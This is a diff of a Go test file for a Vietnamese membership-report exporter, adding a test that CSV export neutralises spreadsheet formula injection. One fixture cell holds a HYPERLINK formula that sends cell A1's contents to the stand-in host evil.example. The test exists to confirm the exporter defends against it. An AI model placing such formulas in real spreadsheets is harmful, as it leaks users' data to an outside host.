@@ -190,7 +190,7 @@ func checkSummary(t *testing.T, x *excelize.File) {
 	want := map[string][]string{
 		"1.5":  {"1.5", "Tỷ lệ tập hợp quần chúng vào tổ chức", "86.7%", "> 85%", "✅", "1.300 / 1.500"},
 		"1.6":  {"1.6", "Tỷ lệ đoàn viên, hội viên sinh hoạt thường xuyên", "95.4%", "> 90%", "✅", "1.240 / 1.300"},
-		"1.4":  {"1.4", "Có mô hình “Dân vận khéo”", "100.0%", "≥ 95% đơn vị", "✅", "1 / 1 đơn vị"},
+		"1.4":  {"1.4", "Có mô hình “Dân vận khéo”", "100.0%", "> 95% đơn vị", "✅", "1 / 1 đơn vị"},
 		"kn":   {"kn", "Tỷ lệ ý kiến, kiến nghị đã giải quyết", "70.0%", "", "ℹ️", "7 / 10"},
 		"Sinh": {"Sinh hoạt & hội viên", "41", "3", "1", "37", "1"},
 	}
@@ -277,6 +277,44 @@ func TestSheetName(t *testing.T) {
 	for _, c := range cases {
 		if got := sheetName(c.in, c.taken); got != c.want {
 			t.Errorf("sheetName(%q): got %q, want %q", c.in, got, c.want)
+		}
+	}
+}
+
+// A text cell a spreadsheet would run as a formula (the sender's display name, a return's reason)
+// is written with a leading quote; numbers, percents and times stay as they are.
+func TestCSVFormulaInjection(t *testing.T) {
+	tbl := Table{
+		FormID:    "membership",
+		Headers:   []string{"Địa bàn", "Tổ chức", "Đơn vị", "Hội viên", "Tỷ lệ", "Trạng thái", "Người gửi", "Lúc", "Phiên bản", "Mã", "Lý do"},
+		Questions: 1, Rates: 1,
+		Rows: []Row{{
+			Place: "Phường 1", Org: "@org", Unit: "-đơn vị",
+			Values: []int64{12}, Has: []bool{true}, Rates: []float64{0.9}, RateOK: []bool{true},
+			Status: "đúng hạn", By: `=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`,
+			At: time.Date(2026, 3, 10, 9, 0, 0, 0, time.UTC), Version: 2, Ref: "ABCDEF",
+			Reason: "+1 thiếu số liệu\tvà \rhơn",
+		}},
+	}
+	var buf bytes.Buffer
+	if err := WriteTableCSV(&buf, tbl); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(buf.Bytes(), []byte(utf8BOM)))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{"Phường 1", "'@org", "'-đơn vị", "12", "90%", "đúng hạn",
+		`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "2026-03-10 09:00", "2", "ABCDEF", "'+1 thiếu số liệu\tvà \rhơn"}
+	if len(recs) != 2 || !reflect.DeepEqual(recs[1], want) {
+		t.Errorf("records: got %q, want a row %q", recs, want)
+	}
+	for _, c := range []struct{ in, want string }{
+		{"=1+1", "'=1+1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@SUM(A1)", "'@SUM(A1)"},
+		{"\tx", "'\tx"}, {"\rx", "'\rx"}, {"Lò Thị Mai", "Lò Thị Mai"}, {"a=b", "a=b"}, {"", ""},
+	} {
+		if got := csvText(c.in); got != c.want {
+			t.Errorf("csvText(%q) = %q, want %q", c.in, got, c.want)
 		}
 	}
 }
